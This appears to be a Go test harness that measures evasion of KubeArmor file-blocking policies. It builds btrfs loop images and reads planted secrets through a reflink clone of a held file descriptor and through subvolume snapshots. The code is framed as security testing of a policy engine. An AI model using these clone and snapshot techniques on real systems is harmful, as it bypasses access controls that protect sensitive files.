// Copyright The Muster Authors
// SPDX-License-Identifier: Apache-2.0

//go:build measure

package evade

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"testing"
	"unsafe"

	"golang.org/x/sys/unix"
)

// The guest has nothing that makes a btrfs: it finds empty ones in what is shared with it, one for each attempt. They must not
// be the same one, which the kernel does not mount twice, and lets go of late.
const (
	cowImages = 16
	cowBytes  = 128 << 20
)

func makeCow(t *testing.T, share string) {
	t.Helper()
	for i := range cowImages {
		name := fmt.Sprintf("%s/btrfs.%d", share, i)
		if err := errors.Join(os.WriteFile(name, nil, 0o644), os.Truncate(name, cowBytes)); err != nil {
			t.Fatal(err)
		}
		if out, err := exec.Command("mkfs.btrfs", "-q", name).CombinedOutput(); err != nil {
			t.Fatalf("mkfs.btrfs: %v: %s", err, out)
		}
	}
}

// onCow are rules for what lies on it.
const onCow = `
---
apiVersion: security.kubearmor.com/v1
kind: KubeArmorHostPolicy
metadata: {name: evade-clones}
spec:
  nodeSelector: {matchLabels: {kubearmor.io/hostname: "*"}}
  file:
    matchPaths:
      - {path: D/disk/exact/secret}
    matchDirectories:
      - {dir: D/disk/tree/, recursive: true}
  action: Block
`

// cowDisk mounts one that this kernel has not used, with the objects in it, too long to be kept beside their names.
const cowDisk = `i=0; until mkdir "/share/$(uname -r).$i" 2>/dev/null; do i=$((i+1)); done
m=$D/disk; mkdir "$m"; cp --sparse=always "/share/btrfs.$i" "$W/img"; modprobe loop; mount -o loop "$W/img" "$m"
mkdir -p "$m/exact" "$m/tree/sub"; for f in exact/secret tree/sub/secret; do { echo ` + token + `; head -c 16384 /dev/zero; } >"$m/$f"; done; sync -f "$m"`

// clones are ways to have a file's blocks once more without reading them.
func clones() []way {
	return []way{
		{name: "clone of a held descriptor's blocks", who: rootOnly, targets: []string{"exact/secret", "tree/sub/secret"}, more: onCow, code: onCowDisk(heldClone)},
		{name: "snapshot of the subvolume", who: rootOnly, targets: exact, more: onCow, code: onCowDisk(snapshot)},
		{name: "snapshot of the subvolume of a directory", who: rootOnly, targets: []string{"tree/sub/secret"}, limit: limitNames, more: onCow, code: onCowDisk(snapshot)},
	}
}

func onCowDisk(begin func(disk, target string) (attempt, error)) func(dir, target string) (attempt, error) {
	return func(dir, target string) (attempt, error) {
		if _, err := output(exec.Command("/bin/sh", "-ec", cowDisk)); err != nil {
			return nil, err
		}
		proceed, err := begin(dir+"/disk", target)
		return func() ([]byte, error) {
			text, err := proceed()
			return text, errors.Join(err, unix.Unmount(dir+"/disk", unix.MNT_DETACH))
		}, err
	}
}

func heldClone(disk, target string) (attempt, error) {
	f, err := os.Open(disk + "/" + target)
	return func() ([]byte, error) {
		clone, err := os.Create(disk + "/clone")
		if err != nil {
			return nil, err
		}
		if err := errors.Join(unix.IoctlFileClone(int(clone.Fd()), int(f.Fd())), clone.Close()); err != nil {
			return nil, err
		}
		return os.ReadFile(disk + "/clone")
	}, err
}

// snapshotCreate is BTRFS_IOC_SNAP_CREATE of linux/btrfs.h.
const snapshotCreate = 0x50009401

func snapshot(disk, target string) (attempt, error) {
	return func() ([]byte, error) {
		fd, err := unix.Open(disk, unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			return nil, err
		}
		defer unix.Close(fd)
		arguments := struct {
			fd   int64
			name [4088]byte
		}{fd: int64(fd)}
		copy(arguments.name[:], "snapshot")
		if _, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), snapshotCreate, uintptr(unsafe.Pointer(&arguments))); errno != 0 {
			return nil, errno
		}
		return os.ReadFile(disk + "/snapshot/" + target)
	}, nil
}
